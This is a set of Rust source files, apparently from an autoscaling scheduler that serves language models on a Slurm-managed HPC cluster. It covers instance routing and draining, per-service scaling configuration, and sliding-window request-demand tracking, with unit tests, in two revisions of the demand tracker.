        entries.retain(|e| e.job != job);
        entries.len() != before
    }

    /// Mark an instance draining: it stops admitting new requests but
    /// keeps its entry so in-flight streams can finish within the grace
    /// budget (preemption notice / walltime warning / admin drain).
    pub fn mark_draining(&self, job: JobId) {
        self.draining.write().unwrap().insert(job);
    }

    /// Un-drain an instance (scale-up reclaimed it before expiry).
    pub fn clear_draining(&self, job: JobId) {
        self.draining.write().unwrap().remove(&job);
    }

    pub fn is_draining(&self, job: JobId) -> bool {
        self.draining.read().unwrap().contains(&job)
    }

    /// Number of draining instances for a service (status / probe JSON).
    pub fn draining_count(&self, service: &str) -> usize {
        let draining = self.draining.read().unwrap();
        self.entries
            .read()
            .unwrap()
            .iter()
            .filter(|e| e.service == service && draining.contains(&e.job))
            .count()
    }

    /// Mark a job's instance ready (readiness probe succeeded) and record
    /// its live address.
    pub fn mark_ready(&self, job: JobId, addr: SocketAddr) -> bool {
        let mut entries = self.entries.write().unwrap();
        if let Some(e) = entries.iter_mut().find(|e| e.job == job) {
            e.ready = true;
            e.addr = Some(addr);
            true
        } else {
            false
        }
    }

    /// Mark an instance unready (failed health check) without removing it.
    pub fn mark_unready(&self, job: JobId) {
        let mut entries = self.entries.write().unwrap();
        if let Some(e) = entries.iter_mut().find(|e| e.job == job) {
            e.ready = false;
        }
    }

    /// Random ready instance for a service — the request router.
    /// Draining instances are excluded: they only finish what they have.
    pub fn pick_ready(&self, service: &str, rng: &mut Rng) -> Option<InstanceEntry> {
        let draining = self.draining.read().unwrap();
        let entries = self.entries.read().unwrap();
        let ready: Vec<&InstanceEntry> = entries
            .iter()
            .filter(|e| {
                e.service == service && e.ready && e.addr.is_some() && !draining.contains(&e.job)
            })
            .collect();
        if ready.is_empty() {
            return None;
        }
        Some(ready[rng.below(ready.len() as u64) as usize].clone())
    }

    /// Is `port` free on `node` (Slurm has no network virtualization)?
    pub fn port_free(&self, node: &str, port: u16) -> bool {
        let entries = self.entries.read().unwrap();
        !entries.iter().any(|e| e.node == node && e.port == port)
    }

    /// All entries for a service.
    pub fn entries_for(&self, service: &str) -> Vec<InstanceEntry> {
        self.entries
            .read()
            .unwrap()
            .iter()
            .filter(|e| e.service == service)
            .cloned()
            .collect()
    }

    /// (total, ready) instance counts for a service.
    pub fn counts(&self, service: &str) -> (usize, usize) {
        let entries = self.entries.read().unwrap();
        let total = entries.iter().filter(|e| e.service == service).count();
        let ready = entries
            .iter()
            .filter(|e| e.service == service && e.ready)
            .count();
        (total, ready)
    }

    pub fn snapshot(&self) -> Vec<InstanceEntry> {
        self.entries.read().unwrap().clone()
    }

    pub fn entry_for_job(&self, job: JobId) -> Option<InstanceEntry> {
        self.entries
            .read()
            .unwrap()
            .iter()
            .find(|e| e.job == job)
            .cloned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(service: &str, job: JobId, node: &str, port: u16) -> InstanceEntry {
        InstanceEntry {
            service: service.into(),
            job,
            node: node.into(),
            port,
            addr: None,
            ready: false,
        }
    }

    #[test]
    fn insert_ready_pick() {
        let table = RoutingTable::new();
        table.insert(entry("llama", 1, "g1", 40000));
        let mut rng = Rng::new(1);
        // not ready yet
        assert!(table.pick_ready("llama", &mut rng).is_none());
        let addr: SocketAddr = "127.0.0.1:9999".parse().unwrap();
        assert!(table.mark_ready(1, addr));
        let picked = table.pick_ready("llama", &mut rng).unwrap();
        assert_eq!(picked.job, 1);
        assert_eq!(picked.addr, Some(addr));
        // unknown service
        assert!(table.pick_ready("qwen", &mut rng).is_none());
    }

    #[test]
    fn random_balancing_covers_all_instances() {
        let table = RoutingTable::new();
        let addr: SocketAddr = "127.0.0.1:1".parse().unwrap();
        for job in 1..=4 {
            table.insert(entry("llama", job, "g1", 40000 + job as u16));
            table.mark_ready(job, addr);
        }
        let mut rng = Rng::new(2);
        let mut hits = [0usize; 5];
        for _ in 0..400 {
            let e = table.pick_ready("llama", &mut rng).unwrap();
            hits[e.job as usize] += 1;
        }
        for job in 1..=4 {
            assert!(
                hits[job] > 50,
                "instance {job} starved: {hits:?} (expected ~100 each)"
            );
        }
    }

    #[test]
    fn port_conflict_detection_is_per_node() {
        let table = RoutingTable::new();
        table.insert(entry("a", 1, "g1", 40000));
        assert!(!table.port_free("g1", 40000));
        assert!(table.port_free("g2", 40000));
        assert!(table.port_free("g1", 40001));
        table.remove_job(1);
        assert!(table.port_free("g1", 40000));
    }

    #[test]
    fn remove_and_counts() {
        let table = RoutingTable::new();
        table.insert(entry("a", 1, "g1", 1000));
        table.insert(entry("a", 2, "g1", 1001));
        table.mark_ready(2, "127.0.0.1:1".parse().unwrap());
        assert_eq!(table.counts("a"), (2, 1));
        assert!(table.remove_job(1));
        assert!(!table.remove_job(1));
        assert_eq!(table.counts("a"), (1, 1));
    }

    #[test]
    fn draining_instance_stops_admitting_but_keeps_entry() {
        let table = RoutingTable::new();
        table.insert(entry("a", 1, "g1", 1000));
        table.mark_ready(1, "127.0.0.1:1".parse().unwrap());
        table.mark_draining(1);
        let mut rng = Rng::new(7);
        assert!(table.pick_ready("a", &mut rng).is_none(), "no new admissions");
        assert_eq!(table.counts("a"), (1, 1), "entry kept for in-flight work");
        assert_eq!(table.draining_count("a"), 1);
        assert!(table.is_draining(1));
        table.clear_draining(1);
        assert!(table.pick_ready("a", &mut rng).is_some(), "un-drained");
        table.mark_draining(1);
        table.remove_job(1);
        assert!(!table.is_draining(1), "drain mark dies with the entry");
        assert_eq!(table.draining_count("a"), 0);
    }

    #[test]
    fn mark_unready_pulls_instance_out_of_rotation() {
        let table = RoutingTable::new();
        table.insert(entry("a", 1, "g1", 1000));
        table.mark_ready(1, "127.0.0.1:1".parse().unwrap());
        table.mark_unready(1);
        let mut rng = Rng::new(3);
        assert!(table.pick_ready("a", &mut rng).is_none());
    }
}
