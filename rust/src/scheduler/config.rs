//! Per-service scheduler configuration (§5.6).
//!
//! The paper's scheduler script "can be configured with a set of services
//! it should maintain along with the specifics of running their respective
//! jobs, such as the job script and settings for when to adjust the number
//! of active instances".

use crate::util::clock::Millis;

/// How excess instances are removed on scale-down.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScaleDownPolicy {
    /// The paper's behaviour: stop renewing; excess jobs expire at
    /// walltime. Gentle on in-flight requests, slow to release GPUs.
    Expire,
    /// Eager: `scancel` the youngest excess instances immediately.
    /// (Ablation: frees resources fast, may kill in-flight requests.)
    Cancel,
}

/// One service (≈ one model) the scheduler maintains.
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Service name, also the routing key (e.g. "llama3-70b").
    pub name: String,
    /// Model identifier handed to the instance launcher (artifact name or
    /// perf-model profile).
    pub model: String,
    /// GPUs per instance (the paper runs Llama3-70B on 2×H100 with FP8).
    pub gpus: u32,
    /// Slurm walltime for each service job. Jobs are continuously replaced
    /// before they expire.
    pub time_limit: Millis,
    /// Renew a job when it is within this margin of its walltime.
    pub renew_margin: Millis,
    /// Instance count bounds. `min_instances = 0` allows scale-to-zero
    /// (§7.1.3 discusses why the paper does not enable it).
    pub min_instances: u32,
    /// Upper bound on instances (GPU budget guard).
    pub max_instances: u32,
    /// Target average concurrent requests per ready instance; above this
    /// the scheduler scales up (paper: "if this average is higher than a
    /// certain threshold, the scheduler spawns multiple instances").
    pub target_concurrency: f64,
    /// Scale-down behaviour.
    pub scale_down: ScaleDownPolicy,
    /// How much sheddable (batch-class) demand counts toward scaling.
    /// 1.0 treats batch like guaranteed load; 0.0 provisions only for
    /// interactive traffic and lets admission control shed the rest.
    pub batch_demand_weight: f64,
    /// Drain grace budget for elastic service jobs. When > 0 the
    /// scheduler submits *preemptible* jobs that Slurm may reclaim with
    /// a `PreemptionNotice` this long before the kill (and that receive
    /// a `WalltimeWarning` this long before expiry). 0 keeps the classic
    /// non-preemptible, full-walltime jobs.
    pub grace: Millis,
    /// Gap harvesting: walltime for harvested allocations when no
    /// backfill reservation constrains the node. When the ctld reports a
    /// concrete gap, jobs are sized to that window instead. 0 disables
    /// gap shaping (jobs always use `time_limit`).
    pub gap_walltime: Millis,
    /// Warm-standby instances held on top of the load-driven count while
    /// demand is rising (positive slope EMA), so bursts and preemption
    /// storms do not pay the cold-start penalty.
    pub standby: u32,
}

impl ServiceConfig {
    /// Reasonable defaults matching the paper's production setup, scaled
    /// to test time units.
    pub fn new(name: &str, model: &str, gpus: u32) -> ServiceConfig {
        ServiceConfig {
            name: name.to_string(),
            model: model.to_string(),
            gpus,
            time_limit: 3_600_000,  // 1 h walltime
            renew_margin: 300_000,  // renew 5 min before expiry
            min_instances: 1,
            max_instances: 4,
            target_concurrency: 8.0,
            scale_down: ScaleDownPolicy::Expire,
            batch_demand_weight: 1.0,
            grace: 0,
            gap_walltime: 0,
            standby: 0,
        }
    }

    /// Compute the desired instance count for a measured average
    /// concurrency. Pure so it can be property-tested in isolation.
    pub fn desired_instances(&self, avg_concurrency: f64) -> u32 {
        let by_load = (avg_concurrency / self.target_concurrency).ceil() as i64;
        (by_load.max(self.min_instances as i64) as u32).min(self.max_instances)
    }

    /// Desired instances from class-split demand: guaranteed load counts
    /// in full, sheddable load is discounted by `batch_demand_weight`.
    pub fn desired_instances_classed(&self, guaranteed: f64, sheddable: f64) -> u32 {
        self.desired_instances(guaranteed + self.batch_demand_weight.clamp(0.0, 1.0) * sheddable)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn desired_instances_scales_with_load() {
        let mut cfg = ServiceConfig::new("llama", "llama-70b", 2);
        cfg.min_instances = 1;
        cfg.max_instances = 4;
        cfg.target_concurrency = 8.0;
        assert_eq!(cfg.desired_instances(0.0), 1);
        assert_eq!(cfg.desired_instances(7.9), 1);
        assert_eq!(cfg.desired_instances(8.1), 2);
        assert_eq!(cfg.desired_instances(24.5), 4);
        assert_eq!(cfg.desired_instances(1000.0), 4, "capped at max");
    }

    #[test]
    fn scale_to_zero_respected_when_configured() {
        let mut cfg = ServiceConfig::new("rare-model", "custom", 2);
        cfg.min_instances = 0;
        assert_eq!(cfg.desired_instances(0.0), 0);
        assert_eq!(cfg.desired_instances(0.1), 1);
    }

    #[test]
    fn min_floor_holds() {
        let mut cfg = ServiceConfig::new("hot-model", "llama-8b", 1);
        cfg.min_instances = 2;
        assert_eq!(cfg.desired_instances(0.0), 2);
    }

    #[test]
    fn sheddable_demand_is_discounted() {
        let mut cfg = ServiceConfig::new("m", "m", 1);
        cfg.target_concurrency = 8.0;
        cfg.max_instances = 8;
        // Default weight 1.0: batch counts like guaranteed (seed behavior).
        assert_eq!(
            cfg.desired_instances_classed(8.0, 8.0),
            cfg.desired_instances(16.0)
        );
        // Weight 0: provision only for interactive; batch is shed instead.
        cfg.batch_demand_weight = 0.0;
        assert_eq!(cfg.desired_instances_classed(8.0, 100.0), 1);
        // Half weight.
        cfg.batch_demand_weight = 0.5;
        assert_eq!(cfg.desired_instances_classed(8.0, 16.0), 2);
    }
}
