//! Request-volume measurement for autoscaling (§5.6), priority-aware.
//!
//! The paper measures demand *on the HPC platform* (deliberately not in the
//! gateway, to keep web server and HPC coupling minimal): the average
//! number of concurrent requests per service within a sliding time window,
//! recalculated on each scheduling run. The Cloud Interface Script brackets
//! every forwarded request with `begin`/`end`; the scheduler samples the
//! in-flight gauge and averages it over the window.
//!
//! Since the fairness subsystem, every request carries a priority class.
//! The tracker keeps per-class concurrency streams alongside the total so
//! autoscaling can distinguish **guaranteed** (interactive) load — which
//! must be covered with capacity — from **sheddable** (batch) load, which
//! the admission controller will shed under pressure and therefore may be
//! discounted (`batch_demand_weight`). Legacy `begin`/`end` callers count
//! as interactive/guaranteed.

use std::collections::HashMap;
use std::sync::Mutex;

use crate::util::clock::Millis;
use crate::util::fairness::Priority;

/// Per-service concurrency samples over a sliding window.
pub struct DemandTracker {
    window_ms: Millis,
    inner: Mutex<HashMap<String, ServiceDemand>>,
}

fn class_idx(priority: Priority) -> usize {
    match priority {
        Priority::Interactive => 0,
        Priority::Batch => 1,
    }
}

#[derive(Default)]
struct ServiceDemand {
    in_flight: u64,
    /// (timestamp, in-flight gauge) samples.
    samples: Vec<(Millis, u64)>,
    /// Total requests ever (for stats).
    total: u64,
    /// Per-class gauges and sample streams (0 = interactive, 1 = batch).
    class_in_flight: [u64; 2],
    class_samples: [Vec<(Millis, u64)>; 2],
    /// EMA of d(avg_concurrency)/dt in requests/second, updated on each
    /// `sample()` — the predictive signal behind warm-standby scale-up.
    slope_ema: f64,
    last_avg: f64,
    last_sample_at: Option<Millis>,
}

/// Smoothing factor for the demand-slope EMA: responsive enough to catch a
/// ramp within a few scheduler runs, smooth enough not to flap on noise.
const SLOPE_ALPHA: f64 = 0.4;

/// Drop samples that fell out of the window, keeping one at/before the
/// cutoff so the level entering the window stays known.
fn prune(samples: &mut Vec<(Millis, u64)>, cutoff: Millis) {
    let first_inside = samples.partition_point(|(t, _)| *t <= cutoff);
    if first_inside > 1 {
        samples.drain(..first_inside - 1);
    }
}

/// Time-weighted average of a (timestamp, level) step function over
/// `[cutoff, now]`, draining samples that fell out of the window. Shared
/// by the total and per-class streams.
fn windowed_avg(
    samples: &mut Vec<(Millis, u64)>,
    in_flight: u64,
    cutoff: Millis,
    now: Millis,
) -> f64 {
    if now == cutoff {
        // Degenerate window (now at the epoch or window_ms == 0):
        // the average over an empty span is the instantaneous level.
        return in_flight as f64;
    }
    prune(samples, cutoff);
    if samples.is_empty() {
        return in_flight as f64;
    }
    // Time-weighted average of the step function over [cutoff, now].
    let mut weighted = 0.0;
    let mut prev_t = cutoff;
    let mut prev_v = samples[0].1; // level entering the window
    for &(t, v) in samples.iter() {
        if t <= cutoff {
            prev_v = v;
            continue;
        }
        let t = t.min(now);
        weighted += t.saturating_sub(prev_t) as f64 * prev_v as f64;
        prev_t = prev_t.max(t);
        prev_v = v;
    }
    weighted += now.saturating_sub(prev_t) as f64 * prev_v as f64;
    let span = now.saturating_sub(cutoff).max(1) as f64;
    weighted / span
}

impl DemandTracker {
    pub fn new(window_ms: Millis) -> DemandTracker {
        DemandTracker {
            window_ms,
            inner: Mutex::new(HashMap::new()),
        }
    }

    /// A request for `service` started (legacy callers: guaranteed class).
    pub fn begin(&self, service: &str, now: Millis) {
        self.begin_class(service, Priority::Interactive, now);
    }

    /// A request of the given priority class started.
    pub fn begin_class(&self, service: &str, priority: Priority, now: Millis) {
        let mut inner = self.inner.lock().unwrap();
        let d = inner.entry(service.to_string()).or_default();
        d.in_flight += 1;
        d.total += 1;
        d.samples.push((now, d.in_flight));
        let i = class_idx(priority);
        d.class_in_flight[i] += 1;
        d.class_samples[i].push((now, d.class_in_flight[i]));
    }

    /// A request for `service` finished (legacy callers: guaranteed class).
    pub fn end(&self, service: &str, now: Millis) {
        self.end_class(service, Priority::Interactive, now);
    }

    /// A request of the given priority class finished.
    pub fn end_class(&self, service: &str, priority: Priority, now: Millis) {
        let mut inner = self.inner.lock().unwrap();
        let d = inner.entry(service.to_string()).or_default();
        d.in_flight = d.in_flight.saturating_sub(1);
        d.samples.push((now, d.in_flight));
        let i = class_idx(priority);
        d.class_in_flight[i] = d.class_in_flight[i].saturating_sub(1);
        d.class_samples[i].push((now, d.class_in_flight[i]));
    }

    /// Record a sample without a request edge (the scheduler calls this on
    /// each run so idle periods pull the average down). Doubles as the
    /// periodic pruning point: whether or not anyone reads the averages,
    /// every stream is trimmed to the window here, so sample vectors stay
    /// bounded on long-running services.
    pub fn sample(&self, service: &str, now: Millis) {
        let mut inner = self.inner.lock().unwrap();
        let d = inner.entry(service.to_string()).or_default();
        d.samples.push((now, d.in_flight));
        for (samples, gauge) in d.class_samples.iter_mut().zip(d.class_in_flight) {
            samples.push((now, gauge));
        }
        let cutoff = now.saturating_sub(self.window_ms);
        let avg = windowed_avg(&mut d.samples, d.in_flight, cutoff, now);
        for samples in d.class_samples.iter_mut() {
            prune(samples, cutoff);
        }
        // Demand-slope EMA: how fast the windowed average is moving. The
        // scheduler holds warm-standby capacity while this is positive.
        if let Some(prev) = d.last_sample_at {
            let dt = now.saturating_sub(prev);
            if dt > 0 {
                let inst = (avg - d.last_avg) / (dt as f64 / 1000.0);
                d.slope_ema = SLOPE_ALPHA * inst + (1.0 - SLOPE_ALPHA) * d.slope_ema;
            }
        }
        d.last_avg = avg;
        d.last_sample_at = Some(now);
    }

    /// EMA of the demand slope (Δ average concurrency per second),
    /// updated on each `sample()`. Positive while load is ramping — the
    /// scheduler's cue to keep standby instances hot so a burst or a
    /// preemption storm does not pay the cold-start penalty.
    pub fn slope(&self, service: &str) -> f64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.slope_ema)
            .unwrap_or(0.0)
    }

    /// Average concurrent requests over the window ending at `now`.
    /// Time-weighted between samples; expires samples older than the window.
    ///
    /// Robust to the edges concurrent callers produce: a zero-width window
    /// reports the current in-flight level, and out-of-order timestamps
    /// (begin/end read the clock outside the lock) are clamped instead of
    /// underflowing.
    pub fn avg_concurrency(&self, service: &str, now: Millis) -> f64 {
        let mut inner = self.inner.lock().unwrap();
        let Some(d) = inner.get_mut(service) else {
            return 0.0;
        };
        let cutoff = now.saturating_sub(self.window_ms);
        windowed_avg(&mut d.samples, d.in_flight, cutoff, now)
    }

    /// Average concurrency of one priority class over the window. The
    /// scheduler reads the interactive stream as *guaranteed* load and the
    /// batch stream as *sheddable* load.
    pub fn avg_concurrency_class(&self, service: &str, priority: Priority, now: Millis) -> f64 {
        let mut inner = self.inner.lock().unwrap();
        let Some(d) = inner.get_mut(service) else {
            return 0.0;
        };
        let cutoff = now.saturating_sub(self.window_ms);
        let i = class_idx(priority);
        windowed_avg(&mut d.class_samples[i], d.class_in_flight[i], cutoff, now)
    }

    /// Current in-flight requests of one priority class.
    pub fn in_flight_class(&self, service: &str, priority: Priority) -> u64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.class_in_flight[class_idx(priority)])
            .unwrap_or(0)
    }

    pub fn in_flight(&self, service: &str) -> u64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.in_flight)
            .unwrap_or(0)
    }

    pub fn total(&self, service: &str) -> u64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.total)
            .unwrap_or(0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn idle_service_has_zero_demand() {
        let t = DemandTracker::new(10_000);
        assert_eq!(t.avg_concurrency("svc", 5_000), 0.0);
        t.sample("svc", 1_000);
        assert_eq!(t.avg_concurrency("svc", 5_000), 0.0);
    }

    #[test]
    fn sustained_load_measures_level() {
        let t = DemandTracker::new(10_000);
        // 4 concurrent requests held for the whole window
        for _ in 0..4 {
            t.begin("svc", 0);
        }
        let avg = t.avg_concurrency("svc", 10_000);
        assert!((avg - 4.0).abs() < 0.01, "avg={avg}");
    }

    #[test]
    fn half_window_load_averages_to_half() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        t.begin("svc", 0);
        t.end("svc", 5_000);
        t.end("svc", 5_000);
        // 2 in flight for first half, 0 for second → avg 1.0 at t=10s
        let avg = t.avg_concurrency("svc", 10_000);
        assert!((avg - 1.0).abs() < 0.05, "avg={avg}");
    }

    #[test]
    fn old_samples_expire() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        t.end("svc", 1_000);
        // By t=20s that burst is entirely outside the window.
        let avg = t.avg_concurrency("svc", 20_000);
        assert!(avg < 0.01, "avg={avg}");
    }

    #[test]
    fn in_flight_and_total_track() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        t.begin("svc", 10);
        assert_eq!(t.in_flight("svc"), 2);
        t.end("svc", 20);
        assert_eq!(t.in_flight("svc"), 1);
        assert_eq!(t.total("svc"), 2);
        // end never underflows
        t.end("svc", 30);
        t.end("svc", 40);
        assert_eq!(t.in_flight("svc"), 0);
    }

    #[test]
    fn services_are_independent() {
        let t = DemandTracker::new(10_000);
        t.begin("a", 0);
        assert_eq!(t.in_flight("a"), 1);
        assert_eq!(t.in_flight("b"), 0);
        assert!(t.avg_concurrency("b", 5_000) < 0.01);
    }

    #[test]
    fn empty_window_reports_current_level() {
        let t = DemandTracker::new(10_000);
        // `now` at the epoch: the window [0, 0] has zero width. The level
        // must still be the in-flight gauge, not NaN or a panic.
        t.begin("svc", 0);
        let avg = t.avg_concurrency("svc", 0);
        assert!(avg.is_finite(), "zero-width window must not divide by zero");
        assert!((avg - 1.0).abs() < 0.01, "avg={avg}");
        // A service with samples but an empty trailing window: all samples
        // drained ahead of the cutoff leave the in-flight level.
        let t = DemandTracker::new(100);
        t.begin("svc", 0);
        t.begin("svc", 10);
        assert_eq!(t.avg_concurrency("svc", 100_000), 2.0, "level persists");
    }

    #[test]
    fn samples_entirely_outside_window_use_last_level() {
        let t = DemandTracker::new(1_000);
        // Burst long before the window.
        for _ in 0..5 {
            t.begin("svc", 0);
        }
        for _ in 0..5 {
            t.end("svc", 100);
        }
        // Window [99k, 100k] contains no samples; the level entering it is 0.
        let avg = t.avg_concurrency("svc", 100_000);
        assert!(avg < 0.01, "avg={avg}");
        // Now a lasting request before the window: level 1 must carry in.
        t.begin("svc", 100_500);
        let avg = t.avg_concurrency("svc", 200_000);
        assert!((avg - 1.0).abs() < 0.01, "pre-window level carries: {avg}");
    }

    #[test]
    fn future_cutoff_saturates_instead_of_underflowing() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 5_000);
        // `now` earlier than some samples (clock skew between begin/end
        // callers and the scheduler): must not panic or underflow.
        let avg = t.avg_concurrency("svc", 1_000);
        assert!(avg.is_finite());
    }

    #[test]
    fn class_streams_split_guaranteed_and_sheddable() {
        let t = DemandTracker::new(10_000);
        t.begin_class("svc", Priority::Interactive, 0);
        t.begin_class("svc", Priority::Batch, 0);
        t.begin_class("svc", Priority::Batch, 0);
        assert_eq!(t.in_flight("svc"), 3, "total spans classes");
        assert_eq!(t.in_flight_class("svc", Priority::Interactive), 1);
        assert_eq!(t.in_flight_class("svc", Priority::Batch), 2);
        let g = t.avg_concurrency_class("svc", Priority::Interactive, 10_000);
        let s = t.avg_concurrency_class("svc", Priority::Batch, 10_000);
        let total = t.avg_concurrency("svc", 10_000);
        assert!((g - 1.0).abs() < 0.01, "guaranteed={g}");
        assert!((s - 2.0).abs() < 0.01, "sheddable={s}");
        assert!((total - 3.0).abs() < 0.01, "total={total}");
        t.end_class("svc", Priority::Batch, 10_000);
        assert_eq!(t.in_flight_class("svc", Priority::Batch), 1);
        assert_eq!(t.in_flight("svc"), 2);
    }

    #[test]
    fn legacy_begin_counts_as_guaranteed() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        assert_eq!(t.in_flight_class("svc", Priority::Interactive), 1);
        assert_eq!(t.in_flight_class("svc", Priority::Batch), 0);
        t.end("svc", 10);
        assert_eq!(t.in_flight_class("svc", Priority::Interactive), 0);
    }

    #[test]
    fn class_sampling_decays_idle_periods() {
        let t = DemandTracker::new(10_000);
        t.begin_class("svc", Priority::Batch, 0);
        t.end_class("svc", Priority::Batch, 1_000);
        t.sample("svc", 15_000);
        let s = t.avg_concurrency_class("svc", Priority::Batch, 20_000);
        assert!(s < 0.01, "idle batch load decays: {s}");
    }

    #[test]
    fn sample_prunes_all_streams_without_readers() {
        // A long-running service whose averages nobody polls must not
        // accumulate samples forever — sample() itself prunes.
        let t = DemandTracker::new(1_000);
        for i in 0..10_000u64 {
            t.begin_class("svc", Priority::Batch, i);
            t.end_class("svc", Priority::Batch, i);
            t.sample("svc", i);
        }
        let inner = t.inner.lock().unwrap();
        let d = inner.get("svc").unwrap();
        assert!(
            d.samples.len() < 4_000,
            "total stream unbounded: {}",
            d.samples.len()
        );
        for s in &d.class_samples {
            assert!(s.len() < 4_000, "class stream unbounded: {}", s.len());
        }
    }

    #[test]
    fn slope_ema_tracks_demand_direction() {
        let t = DemandTracker::new(10_000);
        t.sample("svc", 0);
        // Ramp: one new lasting request per second.
        for i in 1..=10u64 {
            t.begin("svc", i * 1_000);
            t.sample("svc", i * 1_000);
        }
        assert!(t.slope("svc") > 0.0, "rising load: {}", t.slope("svc"));
        // Unwind: the requests finish; the slope turns negative.
        for i in 11..=20u64 {
            t.end("svc", i * 1_000);
            t.sample("svc", i * 1_000);
        }
        assert!(t.slope("svc") < 0.0, "falling load: {}", t.slope("svc"));
        assert_eq!(t.slope("unknown"), 0.0);
    }

    #[test]
    fn concurrent_begin_end_from_many_threads() {
        let t = std::sync::Arc::new(DemandTracker::new(60_000));
        let mut handles = Vec::new();
        for worker in 0..8u64 {
            let t = t.clone();
            handles.push(std::thread::spawn(move || {
                for i in 0..200u64 {
                    let now = worker * 1_000 + i;
                    t.begin("svc", now);
                    t.end("svc", now + 1);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(t.in_flight("svc"), 0, "every begin matched by an end");
        assert_eq!(t.total("svc"), 8 * 200);
        // Unordered timestamps must not break the averaging.
        let avg = t.avg_concurrency("svc", 60_000);
        assert!(avg.is_finite() && avg >= 0.0, "avg={avg}");
    }
}
