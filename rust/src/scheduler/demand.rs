//! Request-volume measurement for autoscaling (§5.6).
//!
//! The paper measures demand *on the HPC platform* (deliberately not in the
//! gateway, to keep web server and HPC coupling minimal): the average
//! number of concurrent requests per service within a sliding time window,
//! recalculated on each scheduling run. The Cloud Interface Script brackets
//! every forwarded request with `begin`/`end`; the scheduler samples the
//! in-flight gauge and averages it over the window.

use std::collections::HashMap;
use std::sync::Mutex;

use crate::util::clock::Millis;

/// Per-service concurrency samples over a sliding window.
pub struct DemandTracker {
    window_ms: Millis,
    inner: Mutex<HashMap<String, ServiceDemand>>,
}

#[derive(Default)]
struct ServiceDemand {
    in_flight: u64,
    /// (timestamp, in-flight gauge) samples.
    samples: Vec<(Millis, u64)>,
    /// Total requests ever (for stats).
    total: u64,
}

impl DemandTracker {
    pub fn new(window_ms: Millis) -> DemandTracker {
        DemandTracker {
            window_ms,
            inner: Mutex::new(HashMap::new()),
        }
    }

    /// A request for `service` started.
    pub fn begin(&self, service: &str, now: Millis) {
        let mut inner = self.inner.lock().unwrap();
        let d = inner.entry(service.to_string()).or_default();
        d.in_flight += 1;
        d.total += 1;
        d.samples.push((now, d.in_flight));
    }

    /// A request for `service` finished.
    pub fn end(&self, service: &str, now: Millis) {
        let mut inner = self.inner.lock().unwrap();
        let d = inner.entry(service.to_string()).or_default();
        d.in_flight = d.in_flight.saturating_sub(1);
        d.samples.push((now, d.in_flight));
    }

    /// Record a sample without a request edge (the scheduler calls this on
    /// each run so idle periods pull the average down).
    pub fn sample(&self, service: &str, now: Millis) {
        let mut inner = self.inner.lock().unwrap();
        let d = inner.entry(service.to_string()).or_default();
        d.samples.push((now, d.in_flight));
    }

    /// Average concurrent requests over the window ending at `now`.
    /// Time-weighted between samples; expires samples older than the window.
    pub fn avg_concurrency(&self, service: &str, now: Millis) -> f64 {
        let mut inner = self.inner.lock().unwrap();
        let Some(d) = inner.get_mut(service) else {
            return 0.0;
        };
        let cutoff = now.saturating_sub(self.window_ms);
        // Keep one sample at/before the cutoff so the level entering the
        // window is known.
        let first_inside = d.samples.partition_point(|(t, _)| *t <= cutoff);
        if first_inside > 1 {
            d.samples.drain(..first_inside - 1);
        }
        if d.samples.is_empty() {
            return d.in_flight as f64;
        }
        // Time-weighted average of the step function over [cutoff, now].
        let mut weighted = 0.0;
        let mut prev_t = cutoff;
        let mut prev_v = d.samples[0].1; // level entering the window
        for &(t, v) in &d.samples {
            if t <= cutoff {
                prev_v = v;
                continue;
            }
            let t = t.min(now);
            weighted += (t - prev_t) as f64 * prev_v as f64;
            prev_t = t;
            prev_v = v;
        }
        weighted += now.saturating_sub(prev_t) as f64 * prev_v as f64;
        let span = now.saturating_sub(cutoff).max(1) as f64;
        weighted / span
    }

    pub fn in_flight(&self, service: &str) -> u64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.in_flight)
            .unwrap_or(0)
    }

    pub fn total(&self, service: &str) -> u64 {
        self.inner
            .lock()
            .unwrap()
            .get(service)
            .map(|d| d.total)
            .unwrap_or(0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn idle_service_has_zero_demand() {
        let t = DemandTracker::new(10_000);
        assert_eq!(t.avg_concurrency("svc", 5_000), 0.0);
        t.sample("svc", 1_000);
        assert_eq!(t.avg_concurrency("svc", 5_000), 0.0);
    }

    #[test]
    fn sustained_load_measures_level() {
        let t = DemandTracker::new(10_000);
        // 4 concurrent requests held for the whole window
        for _ in 0..4 {
            t.begin("svc", 0);
        }
        let avg = t.avg_concurrency("svc", 10_000);
        assert!((avg - 4.0).abs() < 0.01, "avg={avg}");
    }

    #[test]
    fn half_window_load_averages_to_half() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        t.begin("svc", 0);
        t.end("svc", 5_000);
        t.end("svc", 5_000);
        // 2 in flight for first half, 0 for second → avg 1.0 at t=10s
        let avg = t.avg_concurrency("svc", 10_000);
        assert!((avg - 1.0).abs() < 0.05, "avg={avg}");
    }

    #[test]
    fn old_samples_expire() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        t.end("svc", 1_000);
        // By t=20s that burst is entirely outside the window.
        let avg = t.avg_concurrency("svc", 20_000);
        assert!(avg < 0.01, "avg={avg}");
    }

    #[test]
    fn in_flight_and_total_track() {
        let t = DemandTracker::new(10_000);
        t.begin("svc", 0);
        t.begin("svc", 10);
        assert_eq!(t.in_flight("svc"), 2);
        t.end("svc", 20);
        assert_eq!(t.in_flight("svc"), 1);
        assert_eq!(t.total("svc"), 2);
        // end never underflows
        t.end("svc", 30);
        t.end("svc", 40);
        assert_eq!(t.in_flight("svc"), 0);
    }

    #[test]
